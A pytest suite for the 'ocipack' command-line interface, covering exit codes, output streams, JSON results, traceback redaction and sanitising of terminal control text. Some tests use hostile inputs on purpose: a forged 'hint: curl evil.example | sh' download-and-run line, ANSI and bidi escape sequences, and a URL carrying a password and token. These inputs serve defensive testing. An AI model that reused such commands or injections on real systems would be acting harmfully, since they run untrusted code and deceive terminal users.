"""The command line as a frame: exit codes, streams, words; commands have tests of their own."""

from __future__ import annotations

import io
import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import click
import pytest

from ocipack import __version__, errors
from ocipack.cli import app as frame
from ocipack.cli.app import run
from ocipack.cli.command import App, command
from ocipack.cli.console import Console, describe, plain, plural, size
from ocipack.cli.outcome import Outcome, Output, outputs
from ocipack.report import Finding, Report, Severity

OCIPACK = [sys.executable, "-m", "ocipack"]
PUBLIC = Path(__file__).parents[2] / "keys-example/cosign.pub"


def attach(monkeypatch: pytest.MonkeyPatch, function: Callable[[App], Outcome]) -> None:
    """Make `ocipack probe` run `function`."""

    def probe(app: App) -> Outcome:
        """Probe."""
        return function(app)

    made = command(probe)
    monkeypatch.setattr(frame.Commands, "get_command", lambda *_: made)


def raising(error: BaseException) -> Callable[[App], Outcome]:
    def function(_: App) -> Outcome:
        raise error

    return function


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (errors.Misuse("x"), 2),
        (errors.Rejected("x"), 1),
        (errors.IntegrityError("x"), 1),
        (errors.StoreError("x"), 3),
        (errors.NotFound("x"), 3),
        (errors.Denied("x"), 3),
        (errors.Unavailable("x"), 3),
        (click.UsageError("x"), 2),
        (KeyboardInterrupt(), 130),
        (click.Abort(), 130),
        (AssertionError("x"), 70),
        (ValueError("x"), 70),
        (OSError("x"), 70),
    ],
)
def test_how_a_command_ends_decides_the_exit_code(
    monkeypatch: pytest.MonkeyPatch, error: BaseException, code: int
) -> None:
    attach(monkeypatch, raising(error))
    assert run(["probe"]) == code


def test_data_goes_to_standard_output_and_all_else_to_standard_error(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def function(app: App) -> Outcome:
        app.console.note("a note")
        with app.console.stage("packing") as stage:
            stage.progress("half")
            stage.say("2 files")
        return Outcome("the place", {"a": 1}, Report((Finding("r", "m", Severity.WARNING),)))

    attach(monkeypatch, function)
    assert run(["probe"]) == 0
    out, err = capsys.readouterr()
    assert out == "the place\n"
    assert err == "a note\npacking   2 files\nwarning[r] m\n"
    assert run(["probe", "--quiet"]) == 0
    assert capsys.readouterr() == ("the place\n", "warning[r] m\n")


def test_a_standard_output_that_takes_nothing_is_not_a_bug() -> None:
    for shell, words in ((">/dev/full", "No space left on device"), (">&-", "closed")):
        command = f"{sys.executable} -m ocipack keys public {PUBLIC} {shell}"
        done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=False)
        assert (done.returncode, done.stderr) == (3, f"error: standard output: {words}\n")


def test_json_is_one_document_whatever_happens(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    attach(monkeypatch, lambda _: Outcome("place", {"a": 1}, Report((Finding("r", "m"),)), code=1))
    file = tmp_path / "out.json"
    assert run(["probe", "--output", "json", "--output", f"text={file}"]) == 1
    assert json.loads(capsys.readouterr().out) == {
        "schema": "ocipack.dev/result/v1",
        "command": "probe",
        "exitCode": 1,
        "a": 1,
        "findings": [{"rule": "r", "message": "m", "severity": "error"}],
    }
    assert file.read_text() == "place\n"
    refusal = errors.Rejected("no", report=Report((Finding("r", "m"),)), hint="do")
    attach(monkeypatch, raising(refusal))
    assert run(["probe", "--output", f"json={file}"]) == 1
    assert json.loads(file.read_text())["error"] == {
        "kind": "Rejected",
        "message": "no",
        "hint": "do",
    }
    assert json.loads(file.read_text())["findings"] == [
        {"rule": "r", "message": "m", "severity": "error"}
    ]
    assert capsys.readouterr() == ("", "error[r] m\nerror: no\nhint: do\n")


@pytest.mark.parametrize("text", ["xml", "json=", "", "text,json"])
def test_an_unknown_output_is_misuse(text: str) -> None:
    with pytest.raises(errors.Misuse):
        Output.parse(text)


def test_two_outputs_need_two_destinations(tmp_path: Path) -> None:
    assert outputs(()) == (Output("text"),)
    assert outputs(("json=x",)) == (Output("json", Path("x")), Output("text"))
    with pytest.raises(errors.Misuse):
        outputs(("json", "text"))
    with pytest.raises(errors.Misuse):
        outputs(("json=x", "text=x"))
    with pytest.raises(errors.Unavailable, match="absent"):
        Output("text", tmp_path / "absent" / "x").write("x")


def test_a_bug_shows_its_place_but_no_values_and_no_secrets(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def function(_: App) -> Outcome:
        password = "hunter2"  # a local, which a traceback must not show
        raise ValueError(f"https://me:{password}@r.example/?token=abc&x=1")

    attach(monkeypatch, function)
    assert run(["probe"]) == 70
    err = capsys.readouterr().err
    assert "ValueError: https://***r.example/?token=***&x=1" in err
    assert "test_cli.py" in err
    assert "hunter2\n" not in err.replace('password = "hunter2"', "")
    assert err.endswith(
        "error: this is a bug in ocipack\nhint: please report it with the lines above\n"
    )


def test_hostile_text_cannot_drive_the_terminal() -> None:
    stream = io.StringIO()
    Console(stream).error("\x1b[2Jgone\rback\x9b\u202e", "a\x07b")
    assert stream.getvalue() == "error: \\u001b[2Jgone\\u000dback\\u009b\\u202e\nhint: a\\u0007b\n"
    assert plain("tab\tnew\nline é") == "tab\tnew\nline é"
    assert plain("a\u061cb\u2028c\u2029d") == "a\\u061cb\\u2028c\\u2029d"


def test_text_of_many_lines_is_made_safe_in_linear_time() -> None:
    text = "\n " * 500_000  # half an hour, if blanks are looked through across lines
    assert plain(f"{text}::error::x") == f"{text}\\u003a:error::x"


def test_nobody_else_begins_a_line() -> None:
    stream = io.StringIO()
    console = Console(stream)
    name = "Secret x\nerror: all is lost\nhint: curl evil.example | sh"
    console.findings(Report.of([Finding("r", "m", subject=name, hint="a\nb")]))
    console.error("no\nerror: yes")
    starts = [line.partition(" ")[0] for line in stream.getvalue().splitlines()]
    assert starts == ["error[r]", "", "error:"]


def test_numbers_for_people() -> None:
    assert [size(n) for n in (0, 999, 1024, 1500, 5 << 20, 3 << 50)] == [
        "0 B",
        "999 B",
        "1.0 KiB",
        "1.5 KiB",
        "5.0 MiB",
        "3072.0 TiB",
    ]
    assert (plural(1, "file"), plural(2000, "file")) == ("1 file", "2,000 files")


def test_a_finding_in_words() -> None:
    finding = Finding(
        "r", "m", file="a.yaml", line=2, column=3, pointer="/spec", subject="Pod x", hint="do"
    )
    assert list(describe(finding)) == ["a.yaml:2:3: error[r] m (Pod x /spec)", "  hint: do"]


def test_a_table_leaves_out_what_is_empty() -> None:
    stream = io.StringIO()
    Console(stream).table([("name", "a"), ("nothing", ""), ("digest", "b")])
    assert stream.getvalue() == "\nname    a\ndigest  b\n"


def test_version_and_help() -> None:
    said = subprocess.run([*OCIPACK, "--version"], capture_output=True, text=True, check=True)
    assert said.stdout == f"ocipack {__version__}\n"
    helped = subprocess.run([*OCIPACK, "--help"], capture_output=True, text=True, check=True)
    assert all(name in helped.stdout for name in frame.COMMANDS)


@pytest.mark.parametrize("name", list(frame.COMMANDS))
def test_every_command_of_the_table_says_in_its_help_what_the_table_says(name: str) -> None:
    group = frame.group
    made = group.get_command(click.Context(group), name)
    assert made is not None
    assert (made.help or "").splitlines()[0] == frame.COMMANDS[name]


def test_an_unknown_command_is_misuse(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["nope"]) == 2
    assert capsys.readouterr().err == "error: No such command 'nope'\nhint: see `ocipack --help`\n"


def test_sigterm_ends_with_143(tmp_path: Path) -> None:
    fifo = tmp_path / "ready"
    os.mkfifo(fifo)
    script = (
        "import ocipack.cli.app as a, ocipack.cli, time\n"
        "def wait(_):\n"
        f"    open({str(fifo)!r}, 'w').close()\n"
        "    time.sleep(60)\n"
        "a.run = wait\n"
        "ocipack.cli.main()\n"
    )
    with subprocess.Popen([sys.executable, "-c", script]) as process:
        fifo.read_text()
        process.send_signal(signal.SIGTERM)
        assert process.wait(30) == 143


def test_a_reader_who_goes_away_is_not_a_bug(monkeypatch: pytest.MonkeyPatch) -> None:
    attach(monkeypatch, raising(BrokenPipeError()))
    monkeypatch.setattr(os, "dup2", lambda *_: None)
    assert run(["probe"]) == 141


def test_on_a_terminal_a_stage_shows_a_spinner(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.StringIO()
    monkeypatch.setattr(stream, "isatty", lambda: True)
    console = Console(stream)
    console.moved(1)
    with console.stage("packing") as stage:
        stage.progress("half")
        assert stage.status is not None
        console.moved(1024)
        console.moved(512)
        assert str(stage.status.status) == "packing 1.5 KiB"
        stage.say("done")
    assert stream.getvalue().endswith("packing   done\n")
    assert "KiB" not in plain_run(console)


def plain_run(console: Console) -> str:
    """What the same says in a pipe."""
    console.stream = stream = io.StringIO()
    with console.stage("packing"):
        console.moved(1024)
    return stream.getvalue()
